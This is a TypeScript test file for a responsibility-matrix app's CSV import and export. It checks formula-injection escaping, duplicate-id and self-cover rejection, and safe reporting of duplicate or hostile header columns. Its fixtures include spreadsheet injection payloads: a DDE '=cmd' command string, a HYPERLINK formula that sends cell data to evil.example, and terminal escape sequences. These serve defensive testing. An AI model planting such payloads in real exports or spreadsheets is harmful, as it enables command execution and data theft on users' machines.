/** Issue 15, defects 1-3: spreadsheet formulas, repeated ids and self-cover, a repeated header column. */
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvToMatrix, matrixToCsv } from '../../src/matrix/csv.ts';
import { matrixSchema } from '../../src/matrix/schema.ts';
import { smallMatrix } from '../support/matrix-fixture.ts';

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '@SUM(A1:A2)',
  '-2+3',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "'=already quoted",
  "''two apostrophes",
  "'plain apostrophe",
];

/** The CSV's cells, by column, for the row whose id is given. */
function cellsOf(csv: string, id: string): Record<string, string> {
  const parsed = csvToMatrix(csv);
  expect(parsed.ok).toBe(true);
  const lines = csv.split('\r\n');
  const line = lines.find((l) => l.split(',')[1] === id)!;
  return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, line.split(',')[i] ?? '']));
}

describe('CSV export against formula injection', () => {
  it('starts no cell with =, +, -, @, tab or carriage return, and reads every value back unchanged', () => {
    const input = smallMatrix();
    input.parties.forEach((p, i) => (p.name = FORMULAS[i]!));
    input.activities.forEach((a, i) => (a.name = FORMULAS[4 + i]!));
    input.assignments[0]!.split = '-TBD by the MSP-';
    input.assignments[0]!.responsible = ['dana', 'msp-desk'];
    const m = matrixSchema.parse(input);
    const csv = matrixToCsv(m);
    // Every field (quoted or not) of every record, as a spreadsheet would see it.
    const fields = csv
      .split('\r\n')
      .flatMap((l) => l.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g) ?? [])
      .map((f) => f.replace(/,$/, '').replace(/^"|"$/g, ''));
    for (const f of fields) expect(f, f).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain("'=cmd|' /C calc'!A0");
    expect(csvToMatrix(csv)).toEqual({ ok: true, matrix: m });
    expect(cellsOf(csv, 'leadership').name).toBe("'=cmd|' /C calc'!A0");
  });

  it('takes the apostrophe off a cell a person protected by hand', () => {
    const csv = matrixToCsv(matrixSchema.parse(smallMatrix())).replace('Practice leadership', "'@Practice leadership");
    const back = csvToMatrix(csv);
    expect(back.ok && back.matrix.parties[0]!.name).toBe('@Practice leadership');
  });
});

describe('repeated ids in a cell and self-cover', () => {
  /** The fixture as CSV with one cell changed, as a spreadsheet user would type it; and the line changed. */
  const typed = (rowStart: string, column: string, value: string) => {
    const lines = matrixToCsv(matrixSchema.parse(smallMatrix())).split('\r\n');
    const at = lines.findIndex((l) => l.startsWith(rowStart));
    const cells = lines[at]!.split(',');
    cells[lines[0]!.split(',').indexOf(column)] = value;
    lines[at] = cells.join(',');
    return { csv: lines.join('\r\n'), line: at + 1 };
  };

  it('refuses "jane;jane" in Responsible, naming the line and column', () => {
    const { csv, line } = typed('activity,accounts,', 'responsible', 'dana;dana');
    expect(csvToMatrix(csv)).toEqual({
      ok: false,
      problems: [{ line, column: 'responsible', message: '"dana" appears twice in this cell' }],
    });
  });

  it('refuses a party listed in its own covers, naming the line and column', () => {
    const { csv, line } = typed('party,dana,', 'covers', 'dana');
    expect(csvToMatrix(csv)).toEqual({
      ok: false,
      problems: [
        { line, column: 'covers', message: 'a party cannot cover for itself: name who covers for them instead' },
      ],
    });
  });

  it('is refused by the schema too, so the API and the web grid cannot store it either', () => {
    const self = smallMatrix();
    self.parties[1]!.covers = ['dana'];
    const twice = smallMatrix();
    twice.assignments[0]!.responsible = ['dana', 'dana'];
    expect(matrixSchema.safeParse(self).error?.issues.map((i) => i.path.join('.'))).toEqual(['parties.1.covers.0']);
    expect(matrixSchema.safeParse(twice).error?.issues.map((i) => i.path.join('.'))).toEqual([
      'assignments.0.responsible.1',
    ]);
  });
});

describe('the header', () => {
  it('refuses a column that appears twice, naming it, and reads no rows through it', () => {
    const csv = matrixToCsv(matrixSchema.parse(smallMatrix())).split('\r\n');
    const doubled = csv.map((l, i) => (i === 0 ? `${l},responsible` : l.length ? `${l},` : l)).join('\r\n');
    expect(csvToMatrix(doubled)).toEqual({
      ok: false,
      problems: [
        {
          line: 1,
          column: 'responsible',
          message: 'appears twice in the header (columns 14 and 27): which copy counts would be a guess',
        },
      ],
    });
  });

  it('names an unknown column short and with its control characters visible', () => {
    const long = `x\u001b[2J${'y'.repeat(5000)}`;
    const result = csvToMatrix(`kind,${long}\nhours,1\n`);
    expect(result).toEqual({
      ok: false,
      problems: [{ line: 1, column: `x\\x1b[2J${'y'.repeat(35)}...`, message: 'unknown column' }],
    });
  });

  it('echoes a long or hostile value capped and escaped', () => {
    const result = csvToMatrix(`kind,id\n\u001b[1A${'k'.repeat(5_000_000)},x\n`);
    expect(result.ok).toBe(false);
    const message = !result.ok ? result.problems[0]!.message : '';
    expect(message).toBe(
      `must be hours, party, activity or absence, not "\\x1b[1A${'k'.repeat(76)}..." (5,000,004 characters)`,
    );
  });
});
